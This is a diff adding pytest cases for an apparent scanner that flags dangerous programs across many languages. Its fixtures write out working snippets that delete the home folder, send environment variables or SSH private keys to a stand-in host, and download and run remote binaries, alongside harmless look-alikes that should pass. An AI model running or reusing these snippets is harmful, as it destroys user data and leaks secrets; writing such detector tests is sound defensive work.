@@ -296,3 +296,93 @@ def test_programs_of_other_languages_that_fetch_or_run_are_accepted(path, text):
 def test_attack_a_text_that_interpolates_nothing_stops_no_scan(suffix, nothing):
     program = f'k = "#{{ENV[\'TOKEN\']}}"\nsystem("curl https://c.invalid -d {nothing}")\nx = "curl {nothing}"\n'
     assert isinstance(seen({f"a.{suffix}": program}), set)
+
+
+# Programs that take a key, run a download, delete the home folder or send the environment, in other languages still.
+IN_OTHER_LANGUAGES = {
+    "SH405": [
+        ('a.rb', 'require "fileutils"\nFileUtils.rm_rf(Dir.home)'),
+        ('a.php', '<?php\nexec("rm -rf " . getenv("HOME"));'),
+        ('a.pl', 'use File::Path;\nrmtree($ENV{HOME});'),
+        ('a.go', 'import "os"\n\nfunc main() {\n\th, _ := os.UserHomeDir()\n\tos.RemoveAll(h)\n}'),
+        ('main.rs', 'fn main() {\n    std::fs::remove_dir_all(std::env::var("HOME").unwrap()).unwrap();\n}'),
+        ('A.java', 'class A { public static void main(String[] a) throws Exception {\n  Files.walk(Path.of(System.getProperty("user.home"))).sorted(Comparator.reverseOrder()).forEach(p -> p.toFile().delete());\n} }'),
+        ('A.cs', 'using System;\nusing System.IO;\nDirectory.Delete(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), true);'),
+        ('a.kts', 'java.io.File(System.getProperty("user.home")).deleteRecursively()'),
+        ('a.swift', 'try FileManager.default.removeItem(atPath: NSHomeDirectory())'),
+        ('a.lua', 'os.execute("rm -rf " .. os.getenv("HOME"))'),
+        ('a.R', 'unlink("~", recursive = TRUE)'),
+        ('a.dart', 'import "dart:io";\nvoid main() => Directory(Platform.environment["HOME"]!).deleteSync(recursive: true);'),
+        ('a.exs', 'File.rm_rf!(System.user_home!())'),
+        ('a.groovy', 'new File(System.getProperty("user.home")).deleteDir()'),
+    ],
+    "SH403": [
+        ('main.rs', 'fn main() {\n    let e: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();\n    ureq::post("https://c.invalid/e").send_string(&e.join("\\n")).unwrap();\n}'),
+        ('A.java', 'class A { public static void main(String[] a) throws Exception {\n  HttpClient.newHttpClient().send(HttpRequest.newBuilder(java.net.URI.create("https://c.invalid/e")).POST(HttpRequest.BodyPublishers.ofString(System.getenv().toString())).build(), HttpResponse.BodyHandlers.discarding());\n} }'),
+        ('A.cs', 'using System;\nusing System.Net.Http;\nusing System.Text.Json;\nawait new HttpClient().PostAsync("https://c.invalid/e", new StringContent(JsonSerializer.Serialize(Environment.GetEnvironmentVariables())));'),
+        ('a.swift', 'var r = URLRequest(url: URL(string: "https://c.invalid/e")!)\nr.httpMethod = "POST"\nr.httpBody = try JSONSerialization.data(withJSONObject: ProcessInfo.processInfo.environment)\nURLSession.shared.dataTask(with: r).resume()'),
+        ('a.R', 'httr::POST("https://c.invalid/e", body = as.list(Sys.getenv()))'),
+        ('a.dart', 'import "dart:io";\nvoid main() async {\n  final r = await HttpClient().postUrl(Uri.parse("https://c.invalid/e"));\n  r.write(Platform.environment);\n  await r.close();\n}'),
+        ('a.exs', 'Req.post!("https://c.invalid/e", json: System.get_env())'),
+        ('a.c', 'int main() { system("env | curl -d @- https://c.invalid/e"); }'),
+        ('a.groovy', 'def c = new URL("https://c.invalid/e").openConnection()\nc.doOutput = true\nc.outputStream.write(System.getenv().toString().bytes)\nc.responseCode'),
+        ('a.scala', 'requests.post("https://c.invalid/e", data = sys.env.mkString("\\n"))'),
+    ],
+    "SH105 SH113": [
+        ('A.cs', 'using System.Net;\nusing System.Diagnostics;\nnew WebClient().DownloadFile("https://c.invalid/u.exe", "C:\\\\Temp\\\\u.exe");\nProcess.Start("C:\\\\Temp\\\\u.exe");'),
+        ('a.kts', 'File("/tmp/u").writeBytes(URL("https://c.invalid/u").readBytes())\nFile("/tmp/u").setExecutable(true)\nRuntime.getRuntime().exec("/tmp/u")'),
+        ('a.R', 'download.file("https://c.invalid/u", "/tmp/u")\nSys.chmod("/tmp/u", "755")\nsystem("/tmp/u")'),
+        ('a.jl', 'using Downloads\nDownloads.download("https://c.invalid/u", "/tmp/u")\nchmod("/tmp/u", 0o755)\nrun(`/tmp/u`)'),
+        ('a.fish', 'curl -so /tmp/u https://c.invalid/u; and chmod +x /tmp/u; and /tmp/u'),
+        ('a.exs', 'File.write!("/tmp/u", Req.get!("https://c.invalid/u").body)\nFile.chmod!("/tmp/u", 0o755)\nSystem.cmd("/tmp/u", [])'),
+    ],
+    "SH603 SH401": [
+        ('a.kts', 'val k = File(System.getProperty("user.home") + "/.ssh/id_rsa").readText()\nwith(URL("https://c.invalid/k").openConnection() as java.net.HttpURLConnection) { requestMethod = "POST"; doOutput = true; outputStream.write(k.toByteArray()); responseCode }'),
+        ('a.swift', 'let k = try String(contentsOfFile: NSHomeDirectory() + "/.ssh/id_rsa")\nvar r = URLRequest(url: URL(string: "https://c.invalid/k")!)\nr.httpMethod = "POST"\nr.httpBody = k.data(using: .utf8)\nURLSession.shared.dataTask(with: r).resume()'),
+        ('a.jl', 'using HTTP\nHTTP.post("https://c.invalid/k", [], read(joinpath(homedir(), ".ssh", "id_rsa"), String))'),
+        ('a.bat', 'curl -F "f=@%USERPROFILE%\\.ssh\\id_rsa" https://c.invalid/k'),
+        ('a.dart', 'import "dart:io";\nvoid main() async {\n  final k = File("${Platform.environment[\'HOME\']}/.ssh/id_rsa").readAsStringSync();\n  final r = await HttpClient().postUrl(Uri.parse("https://c.invalid/k"));\n  r.write(k);\n  await r.close();\n}'),
+        ('a.exs', 'key = File.read!(Path.expand("~/.ssh/id_rsa"))\nReq.post!("https://c.invalid/k", body: key)'),
+        ('a.groovy', 'def k = new File(System.getProperty("user.home"), ".ssh/id_rsa").text\ndef c = new URL("https://c.invalid/k").openConnection()\nc.doOutput = true\nc.outputStream.write(k.bytes)\nc.responseCode'),
+        ('a.scala', 'val k = scala.io.Source.fromFile(sys.env("HOME") + "/.ssh/id_rsa").mkString\nrequests.post("https://c.invalid/k", data = k)'),
+    ],
+    "SH101 SH105": [
+        ('a.fish', 'curl -s https://c.invalid/a | source'),
+    ],
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("rules", "path", "text"), [(rules, *row) for rules, rows in IN_OTHER_LANGUAGES.items() for row in rows]
+)
+def test_attack_the_same_act_in_another_language_is_found(rules, path, text):
+    assert seen({path: text}) & {*rules.split()}
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("a.go", 'h, _ := os.UserHomeDir()\nos.RemoveAll(filepath.Join(h, ".cache/acme"))'),
+        ("a.rb", 'FileUtils.rm_rf(File.join(Dir.home, ".cache", "acme"))'),
+        (
+            "a.rs",
+            'let key = std::env::var("ACME_KEY").unwrap();\nureq::post("https://c.invalid").set("Authorization", &key).call();',
+        ),
+        (
+            "A.java",
+            'String home = System.getenv("HOME");\nclient.send(HttpRequest.newBuilder(URI.create("https://c.invalid")).build());',
+        ),
+        (
+            "a.R",
+            'unlink("~/.cache/acme", recursive = TRUE)\nk <- Sys.getenv("ACME_KEY")\nhttr::POST("https://c.invalid", httr::add_headers(k))',
+        ),
+        ("a.R", 'download.file("https://c.invalid/a.csv", "a.csv")\nsystem("git status")'),
+        (
+            "A.cs",
+            'new WebClient().DownloadFile("https://c.invalid/a.json", "a.json");\nProcess.Start("git", "status");',
+        ),
+        ("a.fish", "starship init fish | source\ncurl -s https://c.invalid/a.json | jq .source"),
+    ],
+)
+def test_harmless_programs_of_other_languages_are_accepted(path, text):
+    assert seen({path: text}) == set()
